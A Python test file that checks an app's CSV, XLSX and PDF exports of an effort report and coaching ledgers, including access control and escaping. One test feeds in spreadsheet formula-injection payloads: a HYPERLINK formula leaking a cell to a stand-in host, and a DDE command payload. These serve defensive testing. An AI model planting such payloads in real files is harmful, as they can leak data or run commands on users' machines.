"""The effort report (CSV, XLSX, PDF) and each member's coaching ledger (CSV, XLSX), opened and read back.

What a download holds is what the page of the same data shows the same viewer; anything out of view answers 404
as an unknown id does, and a signed-out request 401, as the calendar feeds do.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from backend.services import Services
from domain.tenancy.account import Role
from tests.api.conftest import ALPINE_ADMIN, ALPINE_COACH, HARBOUR_ADMIN, HARBOUR_COACH
from tests.api.page_support import MEMBER, ClientFor, demo_cluster, forming_cluster
from tests.api.test_isolation_same_tenant import SECOND_COACH, SECOND_MEMBER, open_account
from tests.support.graphql_client import GraphQLClient

EFFORT = """query($id: ID!) { cluster(id: $id) { ... on Cluster { name coach { displayName } effort {
    members { organisationName gapAnalysisDays trainingDaysAttended coachingDays totalDays }
    memberCount totalsWithheld trainingDaysHeld consultancyDays daysPerOrganisation
    singleOrganisationBaselineDays shareOfBaseline } } } }"""
LEDGER = """query($id: ID!, $org: ID!) { cluster(id: $id) { ... on Cluster { member(organisationId: $org) {
    coachingHalfDays { entryNumber heldOn moduleNumber workDone nextSteps coachName } } } } }"""
LOG = """mutation($input: LogCoachingHalfDayInput!) { r: logCoachingHalfDay(input: $input) { __typename
    ... on UserError { message } } }"""
HEADER = ["Member", "Gap analysis days", "Training days attended", "Coaching days", "Total days"]
LEDGER_HEADER = ["Half-day", "Date", "Module followed up", "Work done", "Next steps", "Coach"]
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def effort(client: GraphQLClient, cluster_id: str) -> dict[str, Any]:
    cluster: dict[str, Any] = client.data(EFFORT, {"id": cluster_id})["cluster"]
    return cluster


def download(client: GraphQLClient, url: str) -> bytes:
    response = client.http.get(url)
    assert response.status_code == 200, (url, response.text[:200])
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    return response.content


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel reads the encoding from
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def totals_of(rows: list[list[Any]]) -> dict[str, Any]:
    """The labelled rows under the members: their label and the value in the last column."""
    return {row[0]: row[4] for row in rows if row[1] in ("", None) and row[4] not in ("", None)}


def test_the_effort_csv_holds_the_figures_the_page_shows(client_for: ClientFor) -> None:
    coach = client_for(ALPINE_COACH)
    cluster_id, _ = demo_cluster(coach)
    shown = effort(coach, cluster_id)
    response = coach.http.get(f"/clusters/{cluster_id}/effort.csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "effort.csv" in response.headers["content-disposition"]
    header, *rows = csv_rows(response.content)
    assert header == HEADER
    members = shown["effort"]["members"]
    assert [r[0] for r in rows[: len(members)]] == [m["organisationName"] for m in members]
    for row, member in zip(rows, members, strict=False):
        figures = ("gapAnalysisDays", "trainingDaysAttended", "coachingDays", "totalDays")
        assert [float(v) for v in row[1:]] == [member[name] for name in figures]
    totals = totals_of(rows)
    report = shown["effort"]
    assert float(totals["Consultancy days (gap analyses, training held once, coaching)"]) == report["consultancyDays"]
    assert float(totals["Days per organisation (consultancy days / members)"]) == report["daysPerOrganisation"]
    assert float(totals["Single-organisation baseline days"]) == report["singleOrganisationBaselineDays"]
    assert float(totals["Share of the baseline"]) == report["shareOfBaseline"]
    assert int(totals["Members in the cluster"]) == 3


def test_the_effort_xlsx_has_typed_cells_a_frozen_header_and_a_title(client_for: ClientFor) -> None:
    coach = client_for(ALPINE_COACH)
    cluster_id, _ = demo_cluster(coach)
    report = effort(coach, cluster_id)["effort"]
    response = coach.http.get(f"/clusters/{cluster_id}/effort.xlsx")
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None and sheet.title == "Effort"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 40
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADER
    first = report["members"][0]
    assert rows[1] == [
        first["organisationName"],
        first["gapAnalysisDays"],
        first["trainingDaysAttended"],
        first["coachingDays"],
        first["totalDays"],
    ]
    assert all(isinstance(value, int | float) for value in rows[1][1:])
    totals = totals_of(rows[1:])
    assert totals["Share of the baseline"] == report["shareOfBaseline"]
    assert totals["Training days held for the whole cluster"] == report["trainingDaysHeld"]


def test_the_effort_pdf_has_its_title_table_chart_and_note(client_for: ClientFor) -> None:
    coach = client_for(ALPINE_COACH)
    cluster_id, _ = demo_cluster(coach)
    shown = effort(coach, cluster_id)
    body = download(coach, f"/clusters/{cluster_id}/effort.pdf")
    assert body.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(body))
    text = " ".join((page.extract_text() or "") for page in reader.pages)
    assert f"Effort of {shown['name']}" in text
    assert "Consultancy: Alpine" in text
    assert f"Coach: {shown['coach']['displayName']}" in text
    assert "Produced on 2027-01-04" in text and "Period: " in text
    report = shown["effort"]
    for member in report["members"]:
        assert member["organisationName"] in text
        assert f"{member['totalDays']:g}" in text
    assert f"{report['daysPerOrganisation']:g}" in text
    assert f"{report['shareOfBaseline']:.1%}" in text
    assert "Days per member" in text and "Baseline" in text  # the chart's heading and its baseline bar
    assert "Gap analysis" in text and "Training attended" in text  # the chart's legend
    assert "What the figures mean" in text
    assert reader.metadata is not None and reader.metadata.title == f"Effort of {shown['name']}"


def test_a_ledger_holds_the_half_days_the_member_page_lists(client_for: ClientFor) -> None:
    coach = client_for(ALPINE_COACH)
    cluster_id, members = demo_cluster(coach)
    moselle = members["Moselle Logistics"]
    entries = coach.data(LEDGER, {"id": cluster_id, "org": moselle})["cluster"]["member"]["coachingHalfDays"]
    assert entries
    response = coach.http.get(f"/clusters/{cluster_id}/members/{moselle}/ledger.csv")
    assert "Moselle Logistics - coaching ledger.csv" in response.headers["content-disposition"]
    header, *rows = csv_rows(response.content)
    assert header == LEDGER_HEADER
    assert [(int(r[0]), r[1], r[3], r[5]) for r in rows] == [
        (e["entryNumber"], e["heldOn"], e["workDone"], e["coachName"]) for e in entries
    ]
    sheet = load_workbook(io.BytesIO(download(coach, f"/clusters/{cluster_id}/members/{moselle}/ledger.xlsx"))).active
    assert sheet is not None and sheet.title == "Coaching ledger" and sheet.freeze_panes == "A2"
    read = [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert [(r[0], r[1].date(), r[3]) for r in read] == [
        (e["entryNumber"], date.fromisoformat(e["heldOn"]), e["workDone"]) for e in entries
    ]


def test_a_member_downloads_its_own_ledger_and_its_own_row_of_the_effort(client_for: ClientFor) -> None:
    member = client_for(MEMBER)
    cluster_id, members = demo_cluster(member)
    muller = members["Boulangerie Muller"]
    header, *rows = csv_rows(download(member, f"/clusters/{cluster_id}/members/{muller}/ledger.csv"))
    assert header == LEDGER_HEADER
    entries = member.data(LEDGER, {"id": cluster_id, "org": muller})["cluster"]["member"]["coachingHalfDays"]
    assert [(r[1], r[3]) for r in rows] == [(e["heldOn"], e["workDone"]) for e in entries]
    shown = effort(member, cluster_id)["effort"]
    _, *effort_rows = csv_rows(download(member, f"/clusters/{cluster_id}/effort.csv"))
    assert [r[0] for r in effort_rows if r[1] != ""] == ["Boulangerie Muller"]
    text = " ".join(
        p.extract_text() or ""
        for p in PdfReader(io.BytesIO(download(member, f"/clusters/{cluster_id}/effort.pdf"))).pages
    )
    assert "Only your organisation's row is shown" in text
    for other in ("Moselle", "Kirchberg"):
        assert other not in text
        assert not [r for r in effort_rows if other in r[0]]
    assert (
        float(totals_of(effort_rows)["Days per organisation (consultancy days / members)"])
        == shown["daysPerOrganisation"]
    )


def test_names_and_notes_people_typed_never_become_formulas(client_for: ClientFor) -> None:
    coach, admin = client_for(ALPINE_COACH), client_for(ALPINE_ADMIN)
    demo_id, members = demo_cluster(coach)
    cluster_id = forming_cluster(admin, INJECTION, "Plain SARL")
    _, *rows = csv_rows(download(admin, f"/clusters/{cluster_id}/effort.csv"))
    assert "'" + INJECTION in [r[0] for r in rows]
    sheet = load_workbook(io.BytesIO(download(admin, f"/clusters/{cluster_id}/effort.xlsx"))).active
    assert sheet is not None
    [cell] = [c for c in sheet["A"] if c.value == INJECTION]
    assert cell.data_type == "s"  # text, not a formula

    muller = members["Boulangerie Muller"]
    typed = {"workDone": "@SUM(1+1)*cmd|' /C calc'!A0", "nextSteps": "-2+3"}
    logged = {"clusterId": demo_id, "organisationId": muller, "heldOn": "2027-01-04", **typed}
    assert coach.data(LOG, {"input": logged})["r"]["__typename"] == "ClusterChange"
    _, *ledger = csv_rows(download(coach, f"/clusters/{demo_id}/members/{muller}/ledger.csv"))
    assert (ledger[-1][3], ledger[-1][4]) == ("'" + typed["workDone"], "'-2+3")
    sheet = load_workbook(io.BytesIO(download(coach, f"/clusters/{demo_id}/members/{muller}/ledger.xlsx"))).active
    assert sheet is not None
    last = list(sheet.iter_rows())[-1]
    assert (last[3].value, last[3].data_type, last[4].value, last[4].data_type) == (typed["workDone"], "s", "-2+3", "s")


DOWNLOADS = ("effort.csv", "effort.xlsx", "effort.pdf", "members/{org}/ledger.csv", "members/{org}/ledger.xlsx")


@pytest.mark.parametrize("outsider", [HARBOUR_ADMIN, HARBOUR_COACH, SECOND_COACH])
def test_outsiders_get_the_answer_an_unknown_cluster_gets(
    client_for: ClientFor, demo_services: Services, outsider: str
) -> None:
    open_account(demo_services, SECOND_COACH, "Sam Second", Role.COACH)
    cluster_id, members = demo_cluster(client_for(ALPINE_COACH))
    stranger = client_for(outsider)
    unknown = str(uuid.uuid4())
    for path in DOWNLOADS:
        asked = stranger.http.get(f"/clusters/{cluster_id}/" + path.format(org=members["Kirchberg Dental"]))
        random = stranger.http.get(f"/clusters/{unknown}/" + path.format(org=unknown))
        assert (asked.status_code, asked.content) == (random.status_code, random.content) == (404, asked.content)
        assert b"Kirchberg" not in asked.content and b"Alpine" not in asked.content


def test_a_member_gets_no_other_members_ledger(client_for: ClientFor, demo_services: Services) -> None:
    cluster_id, members = demo_cluster(client_for(ALPINE_COACH))
    open_account(demo_services, SECOND_MEMBER, "Dr Lena Weber", Role.MEMBER, members["Kirchberg Dental"])
    for email, other in ((MEMBER, "Kirchberg Dental"), (SECOND_MEMBER, "Boulangerie Muller")):
        member = client_for(email)
        for extension in ("csv", "xlsx"):
            asked = member.http.get(f"/clusters/{cluster_id}/members/{members[other]}/ledger.{extension}")
            unknown = member.http.get(f"/clusters/{cluster_id}/members/{uuid.uuid4()}/ledger.{extension}")
            assert (asked.status_code, asked.content) == (404, unknown.content)


def test_a_signed_out_request_is_asked_to_sign_in_as_for_the_calendar(client_for: ClientFor) -> None:
    coach = client_for(ALPINE_COACH)
    cluster_id, members = demo_cluster(coach)
    calendar = coach.http
    calendar.cookies.clear()
    expected = calendar.get(f"/clusters/{cluster_id}/calendar.ics").status_code
    for path in DOWNLOADS:
        response = calendar.get(f"/clusters/{cluster_id}/" + path.format(org=members["Moselle Logistics"]))
        assert response.status_code == expected == 401
        assert b"Moselle" not in response.content


def test_an_unknown_format_is_not_found(client_for: ClientFor) -> None:
    coach = client_for(ALPINE_COACH)
    cluster_id, members = demo_cluster(coach)
    assert coach.http.get(f"/clusters/{cluster_id}/effort.docx").status_code == 404
    assert (
        coach.http.get(f"/clusters/{cluster_id}/members/{members['Moselle Logistics']}/ledger.pdf").status_code == 404
    )


def test_the_pdf_keeps_names_with_accents_and_markup_as_typed(client_for: ClientFor) -> None:
    admin = client_for(ALPINE_ADMIN)
    cluster_id = forming_cluster(admin, "Café & <b>Crème</b> Sàrl", "Plain SARL")
    body = download(admin, f"/clusters/{cluster_id}/effort.pdf")
    text = " ".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(body)).pages)
    assert "Café & <b>Crème</b> Sàrl" in text
    assert "Period: not planned yet" in text
